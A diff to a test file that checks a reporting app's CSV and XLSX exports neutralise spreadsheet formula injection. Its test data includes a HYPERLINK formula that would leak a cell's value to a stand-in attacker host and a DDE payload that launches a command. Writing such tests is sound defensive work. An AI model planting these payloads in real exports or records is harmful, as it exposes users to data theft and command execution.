@@ -86,3 +86,14 @@ test('the XLSX keeps such text as a text cell, never a formula', async () => {
   assert.ok(strings.includes('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;B5,&quot;Xem&quot;)') ||
     strings.includes('=HYPERLINK("http://evil.example/?x="&amp;B5,"Xem")'), 'the text is a shared string');
 });
+
+test('the roll-up\'s units.csv neutralises a unit name that reads as a formula', async () => {
+  execFileSync('sqlite3', [srv.db, "UPDATE unit SET name = '=1+cmd|'' /C calc''!A0' WHERE code = '30052'"]);
+  const district = new Client(srv.base);
+  await district.login('huyen.thapmuoi');
+  const res = await fetch(srv.base + '/reports/872/2024/units.csv', { headers: { cookie: district.cookieHeader() } });
+  assert.equal(res.status, 200);
+  const table = parseCsv(Buffer.from(await res.arrayBuffer()).subarray(3).toString('utf8'));
+  for (const row of table) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `live formula cell: ${cell}`);
+  assert.ok(table.some((row) => row[1] === "'=1+cmd|' /C calc'!A0"), 'the name kept whole behind an apostrophe');
+});
